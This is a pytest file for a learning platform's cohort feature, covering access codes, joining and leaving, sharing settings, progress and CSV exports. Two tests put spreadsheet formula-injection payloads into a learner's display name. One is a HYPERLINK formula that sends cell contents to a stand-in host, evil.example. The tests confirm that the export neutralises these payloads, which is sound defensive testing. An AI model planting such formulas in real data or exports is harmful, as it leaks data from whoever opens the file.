"""Cohorts as a service: access codes, joining and leaving, progress, and counting only what learners share."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from microcred.accounts import service as accounts
from microcred.accounts.models import Membership, Role, User
from microcred.accounts.principal import Actor
from microcred.errors import Conflict, InvalidInput, NotFound
from microcred.skills import cohorts
from microcred.skills.models import Cohort, CohortStatus
from microcred.store import Database
from tests.conftest import World
from tests.skills.fixtures import give_skills


@pytest.fixture
def database_url(esco_database_url: str) -> str:
    return esco_database_url


def _cohort(db: Session, world: World, name: str = "Evening ICT group", org: str = "a") -> Cohort:
    return cohorts.create_cohort(db, Actor.operator(), db.merge(world.orgs[org]), name=name)


def _user(db: Session, world: World, key: str) -> User:
    return db.merge(world.users[key])


def test_access_codes_are_read_out_and_typed_loosely(db: Session, world: World) -> None:
    codes = {cohorts.new_access_code() for _ in range(50)}
    assert len(codes) == 50
    assert all(len(code) == cohorts.CODE_LENGTH and set(code) <= set(cohorts.CODE_ALPHABET) for code in codes)
    assert not set(cohorts.CODE_ALPHABET) & set("01IO")  # no look-alikes
    assert cohorts.normalize_code(" abcd-efgh 23 ") == "ABCDEFGH23"
    found = _cohort(db, world)
    code = found.access_code
    typed = f"{code[:5].lower()}-{code[5:]}"
    assert cohorts.cohort_by_code(db, typed).id == found.id
    cohorts.set_open(db, Actor.operator(), db.merge(world.orgs["a"]), found.id, False)
    with pytest.raises(NotFound) as closed:
        cohorts.cohort_by_code(db, code)
    assert closed.value.code == "cohort_not_found"


def test_names_and_descriptions_are_checked_and_cohorts_stay_in_their_organisation(db: Session, world: World) -> None:
    organisation = db.merge(world.orgs["a"])
    with pytest.raises(InvalidInput) as unnamed:
        cohorts.create_cohort(db, Actor.operator(), organisation, name="   ")
    assert unnamed.value.code == "invalid_name"
    with pytest.raises(InvalidInput) as controlled:
        cohorts.create_cohort(db, Actor.operator(), organisation, name="Fine", description="bell\x07")
    assert controlled.value.code == "invalid_text"
    found = _cohort(db, world, "  Spaced out  ")
    assert found.name == "Spaced out" and found.open
    assert [(c.name, n) for c, n in cohorts.cohorts(db, organisation)] == [("Spaced out", 0)]
    assert cohorts.cohorts(db, db.merge(world.orgs["b"])) == []
    with pytest.raises(NotFound):
        cohorts.cohort(db, db.merge(world.orgs["b"]), found.id)


def test_joining_makes_a_learner_of_the_organisation_once_and_leaving_is_theirs(db: Session, world: World) -> None:
    found = _cohort(db, world)
    outsider = _user(db, world, "b_learner")  # of organisation B
    member = cohorts.join_cohort(db, outsider, found.access_code, share_skills=False, share_careers=False)
    assert (member.share_skills, member.share_experiences, member.share_careers) == (False, False, False)
    role = db.scalar(
        select(Membership.role).where(
            Membership.user_id == outsider.id, Membership.organisation_id == found.organisation_id
        )
    )
    assert role is Role.LEARNER
    db.expire_all()  # as the next request sees it
    with pytest.raises(Conflict) as again:
        cohorts.join_cohort(db, outsider, found.access_code)
    assert again.value.code == "already_in_cohort"
    assert [m.cohort.name for m in cohorts.my_cohorts(db, outsider)] == ["Evening ICT group"]

    changed = cohorts.set_sharing(
        db, outsider, found.id, share_skills=True, share_experiences=True, share_careers=False
    )
    assert (changed.share_skills, changed.share_experiences, changed.share_careers) == (True, True, False)
    stranger = _user(db, world, "a_learner")
    with pytest.raises(NotFound):
        cohorts.set_sharing(db, stranger, found.id, share_skills=True, share_experiences=True, share_careers=True)
    with pytest.raises(NotFound):
        cohorts.leave_cohort(db, stranger, found.id)
    cohorts.leave_cohort(db, outsider, found.id)
    db.flush()
    assert cohorts.my_cohorts(db, outsider) == []


def test_progress_and_the_learner_list_filtered_by_status_and_text(db: Session, world: World) -> None:
    organisation = db.merge(world.orgs["a"])
    found = _cohort(db, world)
    ana, bo = _user(db, world, "a_learner"), _user(db, world, "b_learner")
    for learner in (ana, bo):
        cohorts.join_cohort(db, learner, found.access_code)
    db.expire_all()  # as the next request sees it
    done = cohorts.set_progress(
        db, Actor.operator(), organisation, found.id, bo.id, status=cohorts.check_status("completed"), outcome=" Ready "
    )
    assert done.status == "completed" and done.outcome == "Ready" and done.completed_at is not None
    db.flush()
    db.expire_all()
    found = cohorts.cohort(db, organisation, found.id)
    assert [row.member.user_id for row in cohorts.learner_rows(db, found)] == [ana.id, bo.id]
    [completed] = cohorts.learner_rows(db, found, status="completed")
    assert completed.member.user_id == bo.id and completed.status is CohortStatus.COMPLETED
    assert [row.member.user_id for row in cohorts.learner_rows(db, found, text="B.EXAMPLE")] == [bo.id]
    assert cohorts.learner_rows(db, found, text="nobody") == []
    again = cohorts.set_progress(db, Actor.operator(), organisation, found.id, bo.id, status=CohortStatus.IN_PROGRESS)
    assert again.completed_at is None
    with pytest.raises(InvalidInput) as bad:
        cohorts.check_status("done")
    assert bad.value.code == "invalid_status"
    with pytest.raises(NotFound) as absent:
        cohorts.set_progress(
            db,
            Actor.operator(),
            organisation,
            found.id,
            _user(db, world, "a_educator").id,
            status=CohortStatus.COMPLETED,
        )
    assert absent.value.code == "cohort_member_not_found"


def test_distributions_and_exports_count_only_what_learners_share(database: Database, world: World) -> None:
    with database.session() as db:
        found = _cohort(db, world)
        code, cohort_id = found.access_code, found.id
        learner = _user(db, world, "a_learner")
        learner.display_name = '=HYPERLINK("http://evil.example")'
        cohorts.join_cohort(db, learner, code, share_skills=True, share_experiences=True)
        cohorts.join_cohort(db, _user(db, world, "b_learner"), code, share_skills=False)
    give_skills(database, "learner@a.example", ["SQL", "JavaScript"])
    give_skills(database, "learner@b.example", ["SQL", "adult education"])
    with database.session() as db:
        found = cohorts.cohort(db, db.merge(world.orgs["a"]), cohort_id)
        assert {(d.label, d.users) for d in cohorts.skills_distribution(db, found)} == {("SQL", 1), ("JavaScript", 1)}
        rows = cohorts.learner_rows(db, found)
        assert [(row.experiences, row.skills) for row in rows] == [(1, 2), (1, 0)]  # B's skills are not counted
        summary = list(csv.DictReader(io.StringIO(cohorts.export_profiles_summary(db, found))))
        assert summary[0]["name"] == '\'=HYPERLINK("http://evil.example")'  # not a formula in a spreadsheet
        assert (summary[0]["skills"], summary[0]["experiences"]) == ("2", "1")
        assert "SQL (4)" in summary[0]["top skills (strength)"]
        assert (summary[1]["skills"], summary[1]["experiences"], summary[1]["top skills (strength)"]) == ("", "", "")
        skills_csv = list(csv.reader(io.StringIO(cohorts.export_skills_distribution(db, found))))
        assert skills_csv[0] == ["skill", "user", "skill_url"] and len(skills_csv) == 3
        careers = list(csv.reader(io.StringIO(cohorts.export_careers_distribution(db, found))))
        assert careers[0] == ["career", "user", "career_url"]


FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'


def test_a_formula_in_a_learners_name_comes_out_of_the_cohort_export_as_text(db: Session, world: World) -> None:
    educator = accounts.user_by_email(db, "educator@a.example")
    learner = accounts.user_by_email(db, "learner@a.example")
    assert educator is not None and learner is not None
    organisation = world.orgs["a"]
    found = cohorts.create_cohort(db, Actor.person(educator), db.merge(organisation), name="Evening group")
    learner.display_name = FORMULA
    db.flush()
    cohorts.join_cohort(db, learner, found.access_code, share_skills=True)
    db.flush()
    rows = list(csv.DictReader(io.StringIO(cohorts.export_profiles_summary(db, found))))
    assert [row["name"] for row in rows] == ["'" + FORMULA]
